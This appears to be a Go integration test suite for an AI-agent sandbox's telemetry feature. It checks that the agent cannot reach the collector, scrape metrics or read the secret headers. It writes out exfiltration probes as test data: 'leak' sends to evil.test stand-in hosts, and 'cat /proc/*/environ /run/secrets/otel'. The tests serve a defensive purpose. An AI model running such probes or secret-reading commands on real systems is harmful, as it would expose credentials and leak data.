package telemetry

import (
	"context"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/agent-init/agent-init/internal/lab"
	"github.com/agent-init/agent-init/test/attack/rig"
)

var _ = rig.Also(TestTelemetry, rig.Everywhere)

// TestTelemetry: the log and the metrics arrive at the collector. The agent neither reaches it, nor learns the headers;
// hostile code in the exporter's place reaches the collector, and nothing else.
func TestTelemetry(t *testing.T) {
	lab.Require(t)
	l := lab.New(t, lab.Options{})
	w := telemeter(t, l, ", environment: true, headers: 'file:/run/secrets/otel', metrics: 1s, prometheus: ':9464'")
	c := w.c
	w.arrives("first.evil.test")
	w.complete("at first")
	if !c.has("resource service.name=agents-of-the-lab") || !c.has("resource agent_init.user=agent") {
		t.Errorf("the resource lacks something: %v", c.words)
	}

	// The metrics come as well, with the head of the log. Prometheus has them from outside, and nobody from in here.
	if !rig.Eventually(0, func() bool {
		return c.count("agent_init_dns_queries_total") > 0 && c.count("agent_init_audit_head") > 0 && c.count("agent_init_audit_head_hash") > 0
	}) {
		t.Errorf("the metrics are %v: %+v", c.counts, told(w.World))
	}
	for _, a := range []netip.Addr{w.Box.Addr4(), w.Box.Addr6()} {
		scraped(w.World, a)
		w.Blocked("tcp", rig.Target(a.String(), 9464))
	}
	for _, a := range []string{w.Box.Addr4().String(), w.Box.Addr6().String(), "127.0.0.1", "127.9.9.9", "::1"} {
		w.Blocked("tcp", "-send", "GET /metrics HTTP/1.0\r\n\r\n", rig.Target(a, 9464))
		r := w.Root("/usr/local/bin/poke", "tcp", rig.Target(a, 9464))
		if p, err := lab.ParsePoke(r.Stdout); err != nil || p.OK {
			t.Errorf("root in here: %s", r)
		}
	}

	// The collector is nobody's but the exporter's.
	who := exporters(w.World)
	if len(who) != 1 || who[0].Uid == 0 || who[0].Uid == lab.AgentUID || who[0].Gid == who[0].Uid {
		t.Fatalf("the exporters are %+v", who)
	}
	turned := func(args ...string) lab.Poke {
		t.Helper()
		r := w.Box.Exec(lab.Cmd{Args: append([]string{"/usr/local/bin/poke"}, args...), UID: who[0].Uid, GID: who[0].Gid})
		p, err := lab.ParsePoke(r.Stdout)
		if err != nil {
			t.Fatalf("poke %v: %v: %s", args, err, r)
		}
		return p
	}
	w.Works("http", "-ca", rig.Bundle, "https://ok.test/") // leased to the agent
	w.Audited("the end of the connection", func(e rig.Event) bool { return e.Kind == "connect" && e.Name == "ok.test" })
	w.Box.ForgetPackets()
	l.DNS.Forget()
	ok4, ok6 := rig.Named("ok.test")
	for _, a := range []string{collector4, collector6} {
		w.Blocked("tcp", rig.Target(a, 443))
		w.Blocked("http", "-ca", rig.Bundle, "-addr", rig.Target(a, 443), "https://"+collectorHost+"/v1/logs")
		if p := turned("-patient", "tcp", rig.Target(a, 443)); !p.OK {
			t.Errorf("proves nothing: %s is not leased to the exporter: %s", a, p)
		}
		for _, other := range []rig.Inmate{{Uid: 0}, {Uid: who[0].Uid, Gid: lab.AgentUID}, {Uid: lab.AgentUID, Gid: who[0].Gid}} {
			r := w.Box.Exec(lab.Cmd{Args: []string{"/usr/local/bin/poke", "tcp", rig.Target(a, 443)}, UID: other.Uid, GID: other.Gid})
			if p, err := lab.ParsePoke(r.Stdout); err != nil || p.OK {
				t.Errorf("uid %d, gid %d reaches the collector: %s", other.Uid, other.Gid, r)
			}
		}
	}
	w.Blocked("resolve", collectorHost)
	for _, args := range [][]string{
		{"tcp", "-send", "leak", rig.Target(ok4.String(), 443)}, {"tcp", "-send", "leak", rig.Target(ok6.String(), 443)}, {"tcp", "-send", "leak", rig.Target(collector4, 80)},
		{"udp", "-send", "leak", "-timeout", "300ms", rig.Target(collector4, 443)}, {"dns", "127.0.0.1:53", "leak.evil.test", "A"}, {"resolve", "ok.test"},
		{"tcp", "-send", "leak", rig.Target(w.Box.Gateway4().String(), 443)}, {"ping", collector4},
	} {
		if p := turned(args...); p.OK {
			t.Errorf("in the exporter's place: %v: %s", args, p)
		}
	}
	toCollector := lab.Any(lab.ToAddr(collector4), lab.ToAddr(collector6))
	w.Sealed(lab.Not(func(p *lab.Packet) bool {
		return toCollector(p) && p.Proto == unix.IPPROTO_TCP && p.DstPort == 443 || !rig.NotGuards(p)
	}))
	w.Unasked("evil.test")
	if p := turned("-patient", "tcp", rig.Target(collector4, 443)); !p.OK {
		t.Errorf("proves nothing: the exporter does not reach the collector: %s", p)
	}

	// Nothing tells the headers, neither by a file nor to the agent.
	if !slices.Contains(c.auth, telemetrySecret) {
		t.Errorf("the headers did not come: %q", c.auth)
	}
	for _, file := range []string{"/var/log/agent-init/audit.jsonl", "/run/agent-init/status.json", "/run/agent-init/policy.jsonl", "/run/agent-init/agent.json"} {
		if data, err := w.Box.ReadFile(file); err != nil || strings.Contains(string(data), telemetrySecret) {
			t.Errorf("%s has the headers (%v)", file, err)
		}
	}
	if r := w.Launch("sh", "-c", "env; cat /proc/*/environ /run/secrets/otel").Wait(0); w.Mode == "" && strings.Contains(r.Stdout, telemetrySecret) {
		t.Error("the agent has the headers")
	}
}

// TestTelemetryGateway: a gateway sends what its log has of the agents, who don't reach the collector.
func TestTelemetryGateway(t *testing.T) {
	lab.Require(t)
	l := lab.New(t, lab.Options{})
	c := newReceiver()
	l.DNS.SetAddrs(collectorHost, collector4, collector6)
	l.Web.Handle(collectorHost, c)
	w := rig.StartIn(t, l, "ok.test\n", lab.BoxOptions{
		Gateway: true, Forwards: true, Binds: []lab.Bind{{Source: exporterBinary(t), Target: exporterPath}},
		Files: []lab.File{
			{Path: "/etc/agent-init/policy.yaml", Data: []byte("telemetry: {endpoint: 'https://" + collectorHost + "', prometheus: ':9464'}\n")},
			{Path: rig.Bundle, Data: l.CA.PEM},
		}}, "agent-init", "gateway", "--inside", "eth1")
	w.Ready()
	k := &rig.Kept{World: w}
	k.Agent = k.Another()
	k.Blocked("resolve", "first.evil.test")
	if !rig.Eventually(0, func() bool {
		return c.has("query.hostname=first.evil.test") && c.has("resource agent_init.mode=gateway")
	}) {
		t.Fatalf("what an agent did does not arrive: %+v\n%s", told(w), w.Agent.Stderr())
	}
	k.Blocked("resolve", collectorHost)
	for _, a := range []string{collector4, collector6} {
		k.Blocked("tcp", rig.Target(a, 443))
		k.Blocked("http", "-insecure", "-addr", rig.Target(a, 443), "https://"+collectorHost+"/v1/logs")
	}
	for _, a := range []netip.Addr{k.Box.Inside4(), k.Box.Inside6(), k.Box.Addr4(), k.Box.Addr6()} {
		k.Blocked("tcp", "-send", "GET /metrics HTTP/1.0\r\n\r\n", rig.Target(a.String(), 9464))
	}
	scraped(w, k.Box.Addr4())
	k.Works("http", "-insecure", "https://ok.test/")
}

// TestTelemetryCeiling: a ceiling counts from when it is there, also one that stops what telemetry was started with.
func TestTelemetryCeiling(t *testing.T) {
	lab.Require(t)
	w := telemeter(t, lab.New(t, lab.Options{}), ", prometheus: ':9464'", "ok2.test")
	w.Works("http", "https://ok2.test/")
	scraped(w.World, w.Box.Addr4())
	if r := w.Root("mkdir", "-p", "/etc/agent-init/ceiling.d"); r.Code != 0 {
		t.Fatal(r)
	}
	rig.Must(t, w.Box.WriteFile("/etc/agent-init/ceiling.d/all.txt", []byte("ok.test\n"+collectorHost+"\n"), 0o644))
	if r := w.Root("agent-init", "reload"); r.Code != 0 {
		t.Error(r)
	}
	w.Blocked("resolve", "ok2.test")
	w.Works("http", "https://ok.test/")
	ctx, cancel := context.WithTimeout(t.Context(), time.Second) // its packets are dropped
	defer cancel()
	if conn, err := w.Lab.Internet.Dial(ctx, "tcp", rig.Target(w.Box.Addr4().String(), 9464), netip.AddrPort{}); err == nil {
		conn.Close()
		t.Error("Prometheus connects, and the ceiling lets nobody in there")
	}
	w.Blocked("tcp", "127.0.0.1:9464")
	w.arrives("evil.test")
}

// TestTelemetryNotThere: without the exporter's program the start is refused, and says what to do.
func TestTelemetryNotThere(t *testing.T) {
	w := rig.Start(t, "ok.test\n", lab.BoxOptions{Files: []lab.File{
		{Path: "/etc/agent-init/policy.yaml", Data: []byte("telemetry: {endpoint: 'https://" + collectorHost + "'}\n")},
	}}, "agent-init", "run", "--", "true")
	r := w.Agent.Wait(time.Minute)
	if r.Code != 78 || !strings.Contains(r.Stderr, "telemetry: the image has no "+exporterPath) || !strings.Contains(r.Stderr, "COPY --from=agent-base") {
		t.Error(r)
	}
}
